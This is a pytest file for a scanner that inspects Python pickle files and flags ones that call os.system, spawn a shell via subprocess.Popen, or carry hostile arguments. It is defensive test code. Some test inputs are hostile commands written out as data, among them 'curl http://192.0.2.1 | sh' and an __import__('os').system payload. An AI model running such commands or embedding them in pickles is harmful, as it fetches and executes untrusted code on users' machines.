"""What a pickle calls and imports becomes facts; what libraries store stays quiet."""

from __future__ import annotations

import collections
import os
import pickle
import subprocess

import pytest

from mlsec.artifacts.bytes.window import Window
from mlsec.artifacts.facts import FactKind, Format
from mlsec.artifacts.inspect.inspect import inspect
from mlsec.artifacts.pickle.policy.evidence import WORDS
from mlsec.core.enums import GapReason, Severity
from tests.artifacts.builders import pickles as make


def facts(data: bytes) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for fact in inspect(Window.of(data)).facts:
        found.setdefault(fact.kind.value, set()).add(fact.subject)
    return found


@pytest.mark.parametrize("protocol", range(6))
def test_a_command_is_seen_in_every_protocol(protocol: int) -> None:
    data = make.dumped([1, make.Calls(os.system, make.COMMAND)], protocol)
    assert facts(data)["denied_call"] == {f"{os.system.__module__}.system"}


@pytest.mark.parametrize("protocol", range(6))
def test_plain_data_and_listed_classes_are_quiet(protocol: int) -> None:
    value = {"a": [1, 2.5, None, ("x", b"y")], "b": collections.OrderedDict(c=1), "d": {1, 2}}
    found = inspect(Window.of(pickle.dumps(value, protocol)))
    assert (found.facts, found.formats) == ((), (Format.PICKLE,))


def test_a_class_reached_by_its_constructor_is_a_call() -> None:
    data = make.dumped(make.Calls(subprocess.Popen, ["sh"]))
    assert facts(data)["denied_call"] == {"subprocess.Popen"}


def test_an_imported_name_that_is_not_called_is_only_told() -> None:
    data = make.stream(make.named("somewhere", "function"))
    (fact,) = inspect(Window.of(data)).facts
    assert (fact.kind, fact.danger) == (FactKind.UNKNOWN_IMPORT, Severity.INFO)


QUIET = b"".join(b"h\x00" + make.text(f"w{n}") + b"K\x07\x86R0" for n in range(3_000))


@pytest.mark.parametrize("how", ["R", "NEW"])
@pytest.mark.parametrize("name", ["Net", "build"])
@pytest.mark.parametrize(
    "word", [*sorted(WORDS), "python3", "LocalHost", "a/b", "os.system", "x;y z"]
)
def test_a_telling_argument_behind_thousands_of_quiet_ones_is_seen(
    word: str, name: str, how: str
) -> None:
    function = make.stacked("unheard.of", name) + b"\x940"
    quiet = QUIET if how == "R" else QUIET.replace(b"\x86R0", b"\x86\x810")
    last = b"h\x00" + make.text(word) + b"K\x07\x86" + (b"R" if how == "R" else b"\x81")
    alone = inspect(Window.of(make.stream(function + last)))
    behind = inspect(Window.of(make.stream(function + quiet + last)))
    assert {fact.kind for fact in alone.facts} <= {fact.kind for fact in behind.facts}
    assert {gap.detail for gap in alone.gaps} <= {gap.detail for gap in behind.gaps}
    # What an object is filled with is data; of a class that is called a word, a path or a host
    # says no more than its class does.
    is_grave = how == "R" and (name == "build" or word == "os.system")
    found = {fact.danger for fact in behind.facts} & {Severity.HIGH, Severity.CRITICAL}
    assert bool(found) is is_grave


STRING_TYPE = make.stacked("pandas", "StringDtype")


@pytest.mark.parametrize("word", ["python", "pyarrow"])
def test_a_word_that_a_class_takes_as_one_of_few_is_no_command(word: str) -> None:
    data = make.stream(STRING_TYPE, make.text(word), b"G\x7f\xf8\0\0\0\0\0\0\x86R")
    assert inspect(Window.of(data)).facts == ()


@pytest.mark.parametrize("word", ["sh", "python -c x", "os.system"])
@pytest.mark.parametrize("before", [b"", make.text("python")])
def test_any_other_word_of_such_a_class_is_judged(word: str, before: bytes) -> None:
    data = make.stream(STRING_TYPE, b"(", before, make.text(word), b"tR")
    assert set(facts(data)) == {"hostile_argument"}


def test_such_a_word_given_to_another_class_is_judged() -> None:
    data = make.stream(make.stacked("pandas", "PeriodDtype"), make.text("python"), b"\x85R")
    assert set(facts(data)) == {"hostile_argument"}


def test_a_worse_call_of_a_name_is_told_though_a_lesser_one_came_before() -> None:
    function = make.stacked("sklearn.svm._classes", "SVC") + b"\x94"
    lesser = b"h\x00K\x01K\x02\x86R0"
    worse = b"h\x00" + make.text("abc") + b"K\x02\x86R"
    for calls, dangers in (
        (lesser + worse, [Severity.LOW, Severity.MEDIUM]),
        (worse + b"0" + lesser, [Severity.MEDIUM]),
    ):
        found = inspect(Window.of(make.stream(function + b"0" + calls))).facts
        assert [fact.danger for fact in found if fact.kind is FactKind.UNVERIFIED_CLASS] == dangers


def test_an_argument_is_seen_before_what_fills_up_the_others() -> None:
    function = make.stacked("unheard.of", "build")
    fillers = b"](" + b"".join(b"](" + b"K\x01" * 250 + b"e" for _ in range(20)) + b"e"
    call = make.text("curl http://192.0.2.1 | sh") + fillers + b"\x86R"
    found = inspect(Window.of(make.stream(function + call))).facts
    assert FactKind.HOSTILE_ARGUMENT in {fact.kind for fact in found}


@pytest.mark.parametrize(
    "said", ["__import__('os').system('echo inert')", "exec(open('x').read())"]
)
def test_an_object_that_only_the_loader_can_find_is_a_gap_and_its_text_is_judged(
    said: str,
) -> None:
    for identity, is_known in ((said, True), ("weights/7", False)):
        found = inspect(Window.of(make.stream(make.text(identity), b"Q")))
        kinds = {fact.kind for fact in found.facts}
        assert (FactKind.HOSTILE_ARGUMENT in kinds) is is_known
        assert [gap.reason for gap in found.gaps] == [GapReason.UNRESOLVED]
